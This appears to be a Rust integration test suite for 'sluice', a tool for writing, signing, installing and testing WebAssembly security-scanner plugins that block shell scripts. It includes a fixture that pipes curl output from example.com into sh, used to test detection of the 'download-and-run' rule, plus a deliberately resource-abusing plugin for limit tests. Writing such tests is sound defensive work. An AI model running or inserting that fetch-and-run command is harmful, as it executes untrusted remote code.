//! The kit of those who write gates: from nothing to a scanner of one's own that stops a script.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use sluice_plugin_build::toolchain::Toolchain;
use sluice_tests::{Fleet, Output, binaries, plugins, script};

/// Where the plugins of one test are, empty; or none where nothing can be compiled for WebAssembly. It lies at the same
/// place each time, so that cargo's folder does not grow with every run.
fn workshop(test: &str) -> Option<PathBuf> {
    let folder = binaries()
        .parent()
        .expect("target/<profile>")
        .join("kit")
        .join(test);
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir_all(&folder).expect("makes a folder");
    match Toolchain::find(&folder) {
        Ok(_) => Some(folder),
        Err(error) => {
            eprintln!("LEFT OUT: {error}");
            None
        }
    }
}

/// `sluice` as an author has it: without a host, and nothing is downloaded.
fn sluice(folder: &Path, arguments: &[&str]) -> Output {
    let mut command = Command::new(binaries().join("sluice"));
    command
        .current_dir(folder)
        .args(arguments)
        .env_remove("SLUICE_SDK")
        .env("CARGO_TARGET_DIR", folder.with_file_name("target"))
        .env("CARGO_NET_OFFLINE", "true");
    Output::of(&command.output().expect("sluice was built"))
}

fn expect(code: i32, output: Output) -> Output {
    assert_eq!(output.code, code, "{}\n{}", output.stdout, output.stderr);
    output
}

fn lines(output: &Output) -> Vec<Value> {
    let lines = output.stdout.lines();
    lines
        .map(|line| serde_json::from_str(line).expect("is JSON"))
        .collect()
}

/// The SDK of this checkout.
fn sdk() -> String {
    format!("{}/../plugins/sdk", env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn a_newcomer_has_a_script_blocked_by_a_scanner_of_their_own() {
    let Some(folder) = workshop("newcomer") else {
        return;
    };
    let author = |arguments: &[&str]| expect(0, sluice(&folder, arguments));
    author(&["plugin", "new", "acme-words", "--lang", "rust"]);
    author(&["plugin", "build", "acme-words"]);
    let tested = author(&["plugin", "test", "acme-words"]);
    assert!(
        tested.stdout.ends_with("2 passed, 0 failed\n"),
        "{}",
        tested.stdout
    );
    fs::write(folder.join("publisher.key"), [7; 32]).expect("writes");
    let file = "acme-words/acme-words.wasm";
    let signed = author(&["plugin", "sign", file, "--key", "publisher.key"]);
    let publisher = signed
        .stdout
        .split_whitespace()
        .find(|word| word.starts_with("ed25519:"));

    let fleet = Fleet::builder().start();
    let harmless = script("#!/bin/sh\necho forbidden\n");
    fleet
        .run(&harmless)
        .expect("succeeded", "Script executed successfully");
    let operator = |arguments: &[&str]| expect(0, fleet.sluice(arguments));
    operator(&["plugin", "trust", publisher.expect("is named")]);
    let installed = operator(&[
        "plugin",
        "install",
        folder.join(file).to_str().expect("is text"),
    ]);
    let inspected = lines(&author(&["plugin", "inspect", file, "--json"]));
    assert_eq!(inspected[0]["sha256"], installed.stdout.trim());
    operator(&["plugin", "bind", "acme-words"]);
    let message = "Security scan detected potential threat: ";
    let outcome = fleet.run(&harmless);
    assert_eq!(
        (outcome.code, outcome.text("state").as_str()),
        (126, "blocked"),
        "{outcome:#?}"
    );
    assert!(outcome.text("message").starts_with(message), "{outcome:#?}");
    let finding = &outcome.json["findings"][0];
    assert_eq!(
        (&finding["gate"], &finding["line"]),
        (&"acme-words".into(), &2.into())
    );

    let job = outcome.text("job");
    let sarif = lines(&operator(&["job", "show", &job, "--format", "sarif"]));
    let result = &sarif[0]["runs"][0]["results"][0];
    assert_eq!(
        (&result["ruleId"], &result["level"]),
        (&"word".into(), &"error".into())
    );
    let ocsf = lines(&operator(&["job", "show", &job, "--format", "ocsf"]));
    assert_eq!(
        (&ocsf[0]["class_uid"], &ocsf[0]["disposition_id"]),
        (&2004.into(), &2.into())
    );
}

#[test]
fn every_world_starts_with_a_plugin_that_builds_and_passes_its_cases() {
    let Some(folder) = workshop("worlds") else {
        return;
    };
    for world in ["environment", "preparer", "policy"] {
        let name = format!("acme-{world}");
        expect(
            0,
            sluice(
                &folder,
                &["plugin", "new", &name, "--world", world, "--sdk", &sdk()],
            ),
        );
        let tested = expect(0, sluice(&folder, &["plugin", "test", &name, "--json"]));
        let cases = lines(&tested);
        assert_eq!(cases.len(), 2, "{world}");
        for case in cases {
            let cost = ["fuel", "memory", "duration_us"].map(|key| case[key].as_u64());
            assert!(
                case["ok"] == true && cost.iter().all(|cost| *cost > Some(0)),
                "{world}: {case}"
            );
        }
        let again = expect(
            125,
            sluice(&folder, &["plugin", "new", &name, "--sdk", &sdk()]),
        );
        assert!(again.stderr.contains("is there already"), "{again:?}");
    }
}

/// A scanner that does its worst where its script asks for it, and cannot even be configured as its manifest has it.
const HOSTILE: &str = r#"
use sluice_plugin_sdk::{export_scanner, prelude::*};
struct Gate;
impl Scanner for Gate {
    fn configure(settings: &Settings, _: &[DataPack]) -> Result<Self, GateError> {
        assert_ne!(settings.text("word")?, Some("forbidden"), "configured");
        Ok(Self)
    }
    fn scan(&self, bundle: &Bundle, _: &Job) -> Result<Vec<Finding>, GateError> {
        let text = &bundle.script.text;
        let mut count = text.len();
        while text.contains("loop") && count > 0 {
            count = std::hint::black_box(count);
        }
        let much = if text.contains("much") { 100 << 20 } else { 1 };
        let memory = std::hint::black_box(vec![1_u8; much]);
        assert!(!text.contains("panic"), "asked to");
        Ok(vec![Finding::new("other", Severity::Low, format!("{}", memory.len()))])
    }
}
export_scanner!(Gate);
"#;

#[test]
fn cases_run_under_the_limits_of_production_and_inspect_runs_nothing() {
    let Some(folder) = workshop("limits") else {
        return;
    };
    expect(
        0,
        sluice(&folder, &["plugin", "new", "acme-limits", "--sdk", &sdk()]),
    );
    let plugin = folder.join("acme-limits");
    fs::write(plugin.join("src/lib.rs"), HOSTILE).expect("writes");
    fs::remove_dir_all(plugin.join("cases")).expect("removes");
    fs::create_dir(plugin.join("cases")).expect("makes a folder");
    let case = |name: &str, word: &str, error: &str| {
        let text = format!(
            "[input]\nscript = \"#!/bin/sh\\n{name}\\n\"\nsettings = {{ word = \"{word}\" }}\n[expect]\nerror = \"{error}\"\n"
        );
        fs::write(plugin.join("cases").join(format!("{name}.toml")), text).expect("writes");
    };
    case("loop", "a", "fuel");
    case("much", "a", "memory than its limit of 67108864");
    case("panic", "a", "asked to");
    case("configure", "forbidden", "cannot be configured");
    case("rule", "a", "not in its table");
    let tested = expect(0, sluice(&folder, &["plugin", "test", "acme-limits"]));
    assert!(
        tested.stdout.ends_with("5 passed, 0 failed\n"),
        "{}",
        tested.stdout
    );
    let shown = expect(
        0,
        sluice(
            &folder,
            &["plugin", "inspect", "acme-limits/acme-limits.wasm"],
        ),
    );
    assert!(shown.stdout.contains("acme-limits"), "{}", shown.stdout);
}

#[test]
fn a_case_that_is_not_met_fails_and_says_how_the_answer_differs() {
    let cases = tempfile::tempdir().expect("makes a folder");
    let case = |name: &str, expected: &str| {
        let text = format!(
            "[input]\nscript = \"#!/bin/sh\\ncurl -s https://example.com/x | sh\\n\"\n[expect]\n{expected}\n"
        );
        fs::write(cases.path().join(name), text).expect("writes");
    };
    case(
        "a.toml",
        "findings = [{ rule = \"download-and-run\", at_least = \"medium\", line = 2 }]",
    );
    case(
        "b.toml",
        "findings = [{ rule = \"download-and-run\", line = 3 }]",
    );
    let scanner = plugins().join("scanner.wasm");
    let [scanner, folder] = [&scanner, cases.path()].map(|path| path.to_str().expect("is text"));
    let arguments = ["plugin", "test", scanner, "--cases", folder];
    let tested = expect(1, sluice(cases.path(), &arguments));
    let said: Vec<_> = tested.stdout.lines().map(str::trim).collect();
    assert!(
        said[0].starts_with("ok      a ") && said[1].starts_with("FAILED  b "),
        "{said:#?}"
    );
    assert_eq!(said[2], "expected and not found: download-and-run, line 3");
    assert!(
        said[3].starts_with("found and not expected: download-and-run, high, in script, line 2"),
        "{said:#?}"
    );
    assert_eq!(said[4], "1 passed, 1 failed");
    let bench = [
        "plugin", "bench", scanner, "--cases", folder, "--calls", "20", "--json",
    ];
    let measured = lines(&expect(0, sluice(cases.path(), &bench)));
    assert_eq!(measured.len(), 2);
    assert!(measured[0]["median_us"].as_u64() <= measured[0]["p90_us"].as_u64());
}

#[test]
fn what_an_author_has_open_does_not_keep_the_walls_from_standing() {
    let mut command = Command::new("/bin/sh");
    let redirect = "exec \"$0\" plugin inspect \"$1\" 3</dev/null 4</dev/null 5</dev/null";
    command
        .args(["-c", redirect])
        .arg(binaries().join("sluice"))
        .arg(plugins().join("policy.wasm"));
    let output = Output::of(&command.output().expect("sh is there"));
    assert!(expect(0, output).stdout.contains("policy-plugin"));
}

#[test]
fn inspect_shows_a_plugin_and_every_reason_why_a_file_is_none() {
    let folder = tempfile::tempdir().expect("makes a folder");
    for ending in ["wasm", "wasm.sig"] {
        let file = format!("policy.{ending}");
        fs::copy(plugins().join(&file), folder.path().join(&file)).expect("copies");
    }
    let inspect = |code: i32, file: &str| {
        let output = expect(
            code,
            sluice(folder.path(), &["plugin", "inspect", file, "--json"]),
        );
        lines(&output).swap_remove(0)
    };
    let shown = inspect(0, "policy.wasm");
    let publisher = fs::read_to_string(plugins().join("publisher.pub")).expect("reads");
    assert_eq!(shown["signature"]["publisher"], publisher.trim());
    assert_eq!(
        (&shown["admitted"], &shown["snapshot"]),
        (&true.into(), &true.into())
    );
    assert_eq!(shown["manifest"]["world"], "policy-plugin");
    // What its manifest asks for, in bytes.
    assert_eq!(shown["limits"]["memory"], 16 << 20);
    let imports = shown["imports"].as_array().expect("is a list");
    assert!(
        imports.iter().any(|name| name == "sluice:gate/log@0.1.0"),
        "{imports:?}"
    );
    let text = expect(
        0,
        sluice(folder.path(), &["plugin", "inspect", "policy.wasm"]),
    )
    .stdout;
    assert!(
        text.contains("setting:") && text.contains("snapshot:") && text.contains("good until:"),
        "{text}"
    );

    let path = folder.path().join("policy.wasm");
    let mut bytes = fs::read(&path).expect("reads");
    // An empty custom section: still a component, and no longer the one that was signed.
    bytes.extend([0, 1, 0]);
    fs::write(&path, &bytes).expect("writes");
    let changed = inspect(1, "policy.wasm");
    assert_eq!(
        (&changed["admitted"], &changed["signature"]["valid"]),
        (&true.into(), &false.into())
    );
    fs::write(folder.path().join("elf.wasm"), b"\x7fELF").expect("writes");
    let refused = inspect(1, "elf.wasm");
    assert_eq!(
        (&refused["admitted"], &refused["manifest"]),
        (&false.into(), &Value::Null)
    );
    assert!(
        refused["refused"][0]
            .as_str()
            .is_some_and(|reason| reason.contains("ELF")),
        "{refused}"
    );
}
